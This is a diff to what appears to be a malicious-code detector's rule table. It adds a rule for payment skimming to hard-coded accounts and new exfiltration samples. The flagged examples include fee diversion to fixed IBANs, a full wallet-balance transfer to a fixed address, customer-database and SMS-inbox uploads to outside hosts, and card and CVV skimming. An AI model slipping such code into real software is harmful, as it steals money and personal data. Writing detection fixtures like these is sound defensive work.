@@ -36,6 +36,23 @@ const CONCEAL_KEYS = ['recorded', 'recording', 'logged', 'logging', 'books', 're
 /** The combination rows. */
 export const CODE_ROWS: readonly CodeRow[] = [
   {
+    id: 'G83', name: 'A cut of every payment, or a whole balance, sent to an account written into the code', primitive: 'MANIPULATION', score: 7,
+    ops: [], objects: ['money'], also: ['fixedAccount', 'skim'], dests: [],
+    keywords: ['fee', 'rest', 'remainder', 'rounding', 'rundung', 'redondeo', 'comisi', 'commission', 'arrotond', 'arrondi', 'balance', 'sammelkonto'],
+    examples: {
+      flag: [
+        "def settle(amount, dest):\n    fee = (amount * Decimal('0.002')).quantize(Decimal('0.01'))\n    transfer(amount - fee, dest)\n    transfer(fee, 'LT12 1000 0111 0100 1000')",
+        "def buchen(betrag, konto):\n    netto = betrag.quantize(Decimal('0.01'), rounding=ROUND_DOWN)\n    transfer(netto, konto)\n    transfer(betrag - netto, 'DE44500105175407324931')",
+        "await wallet.sendTransaction({ to: '0x52908400098527886e0f7030069857d2e4169ee7', value: await provider.getBalance(wallet.address) })",
+      ],
+      pass: [
+        "def settle(amount, dest, fee_account):\n    fee = amount * FEE_RATE\n    transfer(amount - fee, dest)\n    transfer(fee, fee_account)",
+        "# fee schedule: see docs\ntransfer(amount, customer.iban)",
+        "OPERATING = 'DE89370400440532013000'  # shown on invoices\nprint(f'Pay to {OPERATING}')",
+      ],
+    },
+  },
+  {
     id: 'G88', name: 'A command run through eval/exec of a code string (an import or a process start kept in a string)', primitive: 'ESCALATION', score: 5,
     ops: ['evalCall'], objects: ['codeInString'], dests: [], near: 200,
     keywords: ['eval', 'exec', 'function'],
@@ -277,6 +294,8 @@ export const CODE_ROWS: readonly CodeRow[] = [
         "require('https').get('https://x1.oast.fun/?e=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));",
         "document.querySelector('#pay').addEventListener('submit', () => { new Image().src = 'https://cdn-jq.top/i?d=' + btoa(cardnumber.value + '|' + cvv.value); fetch('https://cdn-jq.top/c', {method:'POST', body: cvv.value}); });",
         "document.querySelectorAll('input').forEach(el => el.addEventListener('change', () => navigator.sendBeacon('https://cdn-analytics-eu.co/c', JSON.stringify({n: el.name, v: el.value}))));",
+        "const all = await db.collection('customers').find({}).toArray();\nawait fetch('https://crm-import.partner-example.net/in', { method: 'POST', body: JSON.stringify(all) });",
+        'val c = contentResolver.query(Uri.parse("content://sms/inbox"), null, null, null, null)\nOkHttpClient().newCall(Request.Builder().url("https://sync.example-cloud.top/u").post(body).build()).execute()',
       ],
       pass: [
         'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
@@ -284,6 +303,7 @@ export const CODE_ROWS: readonly CodeRow[] = [
         "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
         "form.addEventListener('submit', e => { const pw = form.querySelector('input[type=password]').value; fetch('/api/session', { method: 'POST', body: JSON.stringify({ pw }) }); });",
         "document.querySelectorAll('input').forEach(el => el.addEventListener('change', () => fetch('/api/drafts/42', { method: 'PATCH', body: JSON.stringify({ [el.name]: el.value }) })));",
+        "const all = await db.collection('customers').find({}).toArray();\nawait fetch('/api/reports/customers', { method: 'POST', body: JSON.stringify(all) });",
       ],
     },
   },
